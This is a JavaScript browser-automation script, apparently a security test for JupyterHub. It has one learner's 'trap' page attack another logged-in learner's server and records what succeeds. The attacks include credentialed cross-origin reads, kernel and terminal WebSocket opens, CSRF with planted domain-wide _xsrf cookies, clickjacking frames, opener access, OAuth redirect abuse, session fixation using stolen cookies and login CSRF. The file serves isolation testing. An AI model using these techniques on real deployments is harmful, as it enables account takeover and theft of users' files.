/**
 * A learner opens another learner's page in a browser where she is logged in. Prints as JSON what that page achieved, and
 * what the same attempts achieve from a page of her own.
 */
import { launch } from '../browser/support/chromium.js';

const { hub, own, other, victim, attacker, kernel } = JSON.parse(process.argv[2]);
const target = `${own}/user/${victim}`;
const trap = `${other}/user/${attacker}/trap/`;
const domain = new URL(hub).hostname;

const browser = await launch();
const home = await loggedIn(victim);
await home.route('**/static/**', (route) => route.abort()); // JupyterLab itself is not needed.
await home.goto(`${target}/lab`, { waitUntil: 'commit' });
await home.waitForURL(`${target}/lab**`, { waitUntil: 'commit' });
await home.waitForLoadState('domcontentloaded');
const page = await home.context().newPage();

const outcome = { control: await home.evaluate(requests, [target, kernel, hub]) };
const mallory = await loggedIn(attacker);
const stolen = await mallory.context().cookies();

await page.goto(trap);
outcome.scripts = await page.evaluate(requests, [target, kernel, hub]);
outcome.windows = await page.evaluate(windows, `${target}/api/contents`);
outcome.frame = await framed();
outcome.opener = await opened();
const actions = [`${target}/api/contents`, `${target}/api/terminals`, `${hub}/hub/api/users/${victim}/tokens`, `${hub}/hub/stop/${victim}`];
for (const token of ['2|guessed', ...values(stolen, '_xsrf')]) {
  await submit(page, actions, token);
}
for (const client of [attacker, victim]) {
  await page.goto(`${hub}/hub/api/oauth2/authorize?${new URLSearchParams({
    client_id: `jupyterhub-user-${client}`,
    redirect_uri: client === attacker ? `/user/${attacker}/oauth_callback` : trap,
    response_type: 'code',
    state: 'x',
  })}`);
}
outcome.changedLogin = await changedLogin();
outcome.loggedIn = await loggedInByTheTrap();
await browser.close();
console.log(JSON.stringify(outcome));

async function loggedIn(name) {
  const page = await (await browser.newContext({ ignoreHTTPSErrors: true })).newPage();
  await page.goto(`${hub}/hub/login?next=/hub/home`);
  await page.fill('input[name=username]', name);
  await page.fill('input[name=password]', 'any');
  await page.click('[type=submit]');
  await page.waitForURL('**/hub/home');
  return page;
}

function values(cookies, name) {
  return cookies.filter((cookie) => cookie.name === name).map((cookie) => cookie.value);
}

/** What a script can ask for; runs in a page. The answer names what it could read, open or register. */
async function requests([target, kernel, hub]) {
  const done = [];
  const reads = [`${target}/api/contents`, `${target}/api/kernels`, `${hub}/hub/api/user`, `${hub}/hub/home`];
  for (const url of reads) {
    try {
      const reply = await fetch(url, { credentials: 'include', headers: headers(url) });
      if (reply.ok) done.push(`read ${new URL(url).pathname}`);
    } catch {
      // The browser refused.
    }
  }
  const socket = target.replace('http', 'ws');
  for (const path of [`/api/kernels/${kernel}/channels`, '/terminals/websocket/1', '/api/events/subscribe']) {
    if (await opens(socket + path)) done.push(`socket ${path}`);
  }
  if (location.origin === new URL(target).origin) return done;
  const blind = { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' };
  for (const url of [`${target}/api/contents`, `${target}/api/terminals`, `${hub}/hub/api/users/x/tokens`]) {
    await fetch(url, blind).catch(() => {});
  }
  for (const method of ['PUT', 'DELETE']) {
    await fetch(`${target}/api/contents/README.md`, { method, credentials: 'include' }).catch(() => {});
  }
  await navigator.serviceWorker.register(`${target}/trap.js`).then(() => done.push('service worker'), () => {});
  return done;

  function headers(url) {
    const token = /(?:^|; )_xsrf=([^;]+)/.exec(document.cookie);
    return token && url.startsWith(location.origin) ? { 'X-XSRFToken': token[1] } : {};
  }

  function opens(url) {
    return new Promise((resolve) => {
      const socket = new WebSocket(url);
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    });
  }
}

/** Opens a page of the victim's in a window, and reads it. */
async function windows(url) {
  const other = window.open(url);
  if (!other) return ['no window'];
  try {
    while (other.document.URL === 'about:blank') await new Promise((resolve) => setTimeout(resolve, 100));
    return [other.document.body.innerText];
  } catch {
    other.close();
    return [];
  }
}

/** Shows the victim's JupyterLab in a frame, where clicks could be directed. */
async function framed() {
  await page.evaluate((url) => {
    document.body.innerHTML = `<iframe src="${url}"></iframe>`;
  }, `${target}/lab`);
  const frame = page.frames().find((one) => one !== page.mainFrame());
  await frame.waitForURL((url) => url.href !== 'about:blank').catch(() => {}); // It is blocked.
  return frame.url().startsWith(own) ? [frame.url()] : [];
}

/** The victim's page opens the trap, which reaches for its opener. */
async function opened() {
  const [trapped] = await Promise.all([home.waitForEvent('popup'), home.evaluate((url) => void window.open(url), trap)]);
  await trapped.waitForLoadState();
  return trapped.evaluate(() => {
    try {
      return [window.opener.document.body.innerText];
    } catch {
      return [];
    }
  });
}

/** Submits forms of the trap's into frames, with a token that the trap planted as a cookie of the whole domain. */
async function submit(page, urls, token, fields = {}) {
  await page.goto(trap);
  const answered = urls.map((url) => page.waitForResponse((response) => response.url().startsWith(url)));
  await page.evaluate(
    ([urls, token, fields, domain]) => {
      for (const url of urls) {
        for (const path of ['/', new URL(url).pathname, '/hub/', '/user/']) {
          document.cookie = `_xsrf=${token}; domain=${domain}; path=${path}; secure`;
        }
        const frame = Object.assign(document.createElement('iframe'), { name: url });
        const form = Object.assign(document.createElement('form'), { method: 'POST', target: url });
        form.action = `${url}?_xsrf=${encodeURIComponent(token)}`;
        for (const [name, value] of Object.entries(fields)) {
          form.append(Object.assign(document.createElement('input'), { name, value }));
        }
        document.body.append(frame, form);
        form.submit();
      }
    },
    [urls, token, fields, domain],
  );
  await Promise.all(answered);
}

/** Plants the attacker's own login cookies for the whole domain. */
async function changedLogin() {
  await page.goto(trap);
  await page.evaluate(
    ([cookies, domain]) => {
      for (const { name, value } of cookies) {
        for (const path of ['/', '/hub', '/hub/']) {
          document.cookie = `${name}=${value}; domain=${domain}; path=${path}; secure`;
        }
      }
    },
    [stolen, domain],
  );
  await page.goto(`${hub}/hub/home`);
  return (await page.content()).includes(attacker) ? [page.url()] : [];
}

/** Logs a visitor in as the attacker, who knows a token for a browser that is not logged in. */
async function loggedInByTheTrap() {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const scout = await context.newPage();
  await scout.goto(`${hub}/hub/login`);
  const tokens = values(await context.cookies(), '_xsrf');
  const visitor = await (await browser.newContext({ ignoreHTTPSErrors: true })).newPage();
  for (const token of tokens) {
    await submit(visitor, [`${hub}/hub/login`], token, { username: attacker, password: 'any' });
  }
  const cookies = await visitor.context().cookies();
  return cookies.map((cookie) => cookie.name).filter((name) => name.includes('login'));
}
